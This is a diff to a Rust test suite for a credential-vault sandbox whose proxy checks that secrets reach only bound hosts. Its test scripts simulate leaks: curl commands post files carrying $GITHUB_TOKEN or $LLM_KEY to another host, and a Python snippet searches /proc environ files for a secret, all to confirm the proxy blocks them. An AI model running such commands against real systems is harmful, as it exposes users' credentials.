@@ -73,6 +73,8 @@ struct Seen {
     path: String,
     headers: BTreeMap<String, String>,
     body: Vec<u8>,
+    /// The whole body arrived (the client did not stop half-way).
+    complete: bool,
 }
 
 /// An HTTPS server on 127.0.0.1 (HTTP/2 and HTTP/1.1), recording every request. It serves
@@ -165,11 +167,10 @@ async fn respond(
     git_root: Option<PathBuf>,
 ) -> hyper::Response<Full<Bytes>> {
     let (parts, body) = req.into_parts();
-    let body = body
-        .collect()
-        .await
-        .map(|b| b.to_bytes().to_vec())
-        .unwrap_or_default();
+    let (body, complete) = match body.collect().await {
+        Ok(b) => (b.to_bytes().to_vec(), true),
+        Err(_) => (Vec::new(), false),
+    };
     let headers: BTreeMap<String, String> = parts
         .headers
         .iter()
@@ -192,6 +193,7 @@ async fn respond(
         path: path.clone(),
         headers: headers.clone(),
         body: body.clone(),
+        complete,
     });
     if let (Some(root), Some(rest)) = (git_root, path.strip_prefix("/git/")) {
         let expected = format!(
@@ -808,4 +810,185 @@ curl -sS -o /dev/null -D - -H "$H" "https://api.bound.test:$BOUND/echo" | grep -
         .filter(|v| v["rule"] == "host-mismatch")
         .collect();
     assert_eq!(fronting.len(), 2, "{fronting:#?}");
+}
+
+/// The search of `the_value_is_nowhere_inside` finds what is there: the twin with an
+/// unbound entry, whose value is in the environment of every process inside.
+#[test]
+fn an_unbound_value_is_found_inside_by_the_same_search() {
+    let s = Setup::new();
+    const PLAIN: &str = "plain-value-0123456789-abcdefghij";
+    vault_set(
+        &s.env,
+        &["vault", "set", "default", "env", "PLAIN_TOKEN"],
+        PLAIN,
+    )
+    .ok();
+    let reversed: String = PLAIN.chars().rev().collect();
+    let run = s
+        .env
+        .run([
+            "run",
+            "-q",
+            &s.id,
+            "--",
+            "python3",
+            "-c",
+            r#"
+import os, sys
+value = sys.argv[1][::-1].encode()
+found = [p for p in ("/proc/self/environ", "/proc/1/environ") if value in open(p, "rb").read()]
+print("found =>", found)
+"#,
+            &reversed,
+        ])
+        .ok();
+    assert_eq!(
+        probe(&run, "found"),
+        "['/proc/self/environ', '/proc/1/environ']"
+    );
+    let show = s.env.run(["show", &s.id]).ok();
+    show.stdout_has("plaintext:  1 entry (env:PLAIN_TOKEN)");
+    show.stdout_has("bound:      env:GITHUB_TOKEN for api.bound.test (a placeholder inside)");
+    let json = s.env.run(["show", &s.id, "--json"]).ok().json();
+    assert_eq!(
+        json["receives"]["plaintext"],
+        serde_json::json!(["env:PLAIN_TOKEN"])
+    );
+    assert_eq!(
+        json["receives"]["bound"]["env:GITHUB_TOKEN"],
+        serde_json::json!(["api.bound.test"])
+    );
+}
+
+/// Bodies the proxy cannot hold whole are searched as they stream: a placeholder deep in
+/// a large plain-HTTP body ends the request before that part is sent on; on a connection
+/// the proxy ends, another entry's placeholder in a body of any type is refused. Twin:
+/// the same large body without it goes through whole.
+#[test]
+fn placeholders_in_large_bodies_are_found_as_they_stream() {
+    let s = Setup::new();
+    // A plain-HTTP server that reads everything it is sent, and keeps it.
+    let sink = StdListener::bind("127.0.0.1:0").unwrap();
+    let sink_port = sink.local_addr().unwrap().port();
+    let received = Arc::new(Mutex::new(Vec::<u8>::new()));
+    let r = received.clone();
+    std::thread::spawn(move || {
+        for stream in sink.incoming() {
+            let Ok(mut st) = stream else { continue };
+            let _ = st.set_read_timeout(Some(Duration::from_secs(10)));
+            let mut buf = vec![0u8; 65536];
+            while let Ok(n) = st.read(&mut buf) {
+                if n == 0 {
+                    break;
+                }
+                r.lock().unwrap().extend_from_slice(&buf[..n]);
+            }
+        }
+    });
+    let run = s.sh(&(format!("SINK={sink_port}; ") + r#"
+head -c 3000000 /dev/zero | tr '\0' a > /tmp/big
+cp /tmp/big /tmp/big-with; printf '%s' "$GITHUB_TOKEN" >> /tmp/big-with; head -c 1000 /dev/zero | tr '\0' b >> /tmp/big-with
+curl -sS -o /dev/null -w 'big-clean => %{http_code}\n' --data-binary @/tmp/big "https://api.bound.test:$BOUND/big-clean" -H 'Content-Type: application/octet-stream'
+curl -sS -o /dev/null -w 'big-plain => %{http_code}\n' --data-binary @/tmp/big-with "http://other.test:$SINK/big" 2>&1
+printf 'head %s tail' "$LLM_KEY" > /tmp/small
+curl -sS -o /dev/null -w 'small-other-entry => %{http_code}\n' --data-binary @/tmp/small -H 'Content-Type: application/octet-stream' "https://api.bound.test:$BOUND/small"
+cp /tmp/big /tmp/big-llm; printf '%s' "$LLM_KEY" >> /tmp/big-llm
+curl -sS -o /dev/null -w 'big-other-entry => %{http_code}\n' --data-binary @/tmp/big-llm -H 'Content-Type: application/json' "https://api.bound.test:$BOUND/big-json"
+"#)).ok();
+    assert_eq!(probe(&run, "big-clean"), "200");
+    // The sink got the head and the start of the body, and the connection's end before
+    // the placeholder.
+    let got = received.lock().unwrap().clone();
+    assert!(
+        got.starts_with(b"POST /big HTTP/1.1"),
+        "{}",
+        String::from_utf8_lossy(&got[..got.len().min(200)])
+    );
+    assert!(memchr::memmem::find(&got, b"ghp_").is_none());
+    assert!(got.len() < 3_000_000, "{}", got.len());
+    assert_eq!(probe(&run, "small-other-entry"), "403");
+    assert_eq!(probe(&run, "big-other-entry"), "403");
+    let seen = s.bound.seen();
+    let clean = seen.iter().find(|r| r.path == "/big-clean").unwrap();
+    assert_eq!(clean.body.len(), 3_000_000);
+    // The small body was refused before anything went on; the large one was stopped
+    // before its end, and the server never got a whole request.
+    assert!(seen.iter().all(|r| r.path != "/small"));
+    assert!(seen
+        .iter()
+        .filter(|r| r.path == "/big-json")
+        .all(|r| !r.complete));
+    s.assert_credential_violation(&format!("other.test:{sink_port}"), "env:GITHUB_TOKEN");
+    s.assert_credential_violation(&format!("api.bound.test:{}", s.bound.port), "env:LLM_KEY");
+}
+
+/// A bound file: each credential in it is a placeholder inside, and the proxy puts the
+/// real one in (curl reads the `.netrc`). A file with nothing to bind is refused at once.
+#[test]
+fn a_bound_file_holds_placeholders_and_works() {
+    let s = Setup::new();
+    let netrc = s.env.root.join("netrc");
+    fs::write(
+        &netrc,
+        format!("machine api.bound.test login x-access-token password {TOKEN}\n"),
+    )
+    .unwrap();
+    s.env
+        .run([
+            "vault",
+            "set",
+            "default",
+            "file",
+            ".netrc",
+            netrc.to_str().unwrap(),
+            "--for",
+            "api.bound.test",
+        ])
+        .ok();
+    let run = s
+        .sh(r#"
+grep -c "$(printf 'ghp_')" ~/.netrc | sed 's/^/shape => /'
+curl -sS --netrc -o /dev/null -w 'netrc => %{http_code}\n' "https://api.bound.test:$BOUND/netrc"
+"#)
+        .ok();
+    assert_eq!(probe(&run, "shape"), "1");
+    assert_eq!(probe(&run, "netrc"), "200");
+    let seen = s.bound.seen();
+    let got = seen.iter().find(|r| r.path == "/netrc").unwrap();
+    let expected = format!(
+        "Basic {}",
+        base64::Engine::encode(
+            &base64::engine::general_purpose::STANDARD,
+            format!("x-access-token:{TOKEN}")
+        )
+    );
+    assert_eq!(got.headers["authorization"], expected);
+    let inside = s.sh("cat ~/.netrc").ok();
+    assert!(!inside.stdout.contains(TOKEN), "{}", inside.stdout);
+    assert!(inside.stdout.contains("password ghp_"), "{}", inside.stdout);
+    // Nothing a placeholder could stand for: refused, nothing stored.
+    let plain = s.env.root.join("config");
+    fs::write(&plain, "[core]\n\teditor = vim\n").unwrap();
+    s.env
+        .run([
+            "vault",
+            "set",
+            "default",
+            "file",
+            ".config/x",
+            plain.to_str().unwrap(),
+            "--for",
+            "api.bound.test",
+        ])
+        .fails(2)
+        .stderr_has("cannot be bound to hosts");
+    let list = s.env.run(["vault", "list", "--json"]).ok().json();
+    let names: Vec<&str> = list[0]["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["name"].as_str().unwrap())
+        .collect();
+    assert!(!names.contains(&".config/x"), "{names:?}");
 }
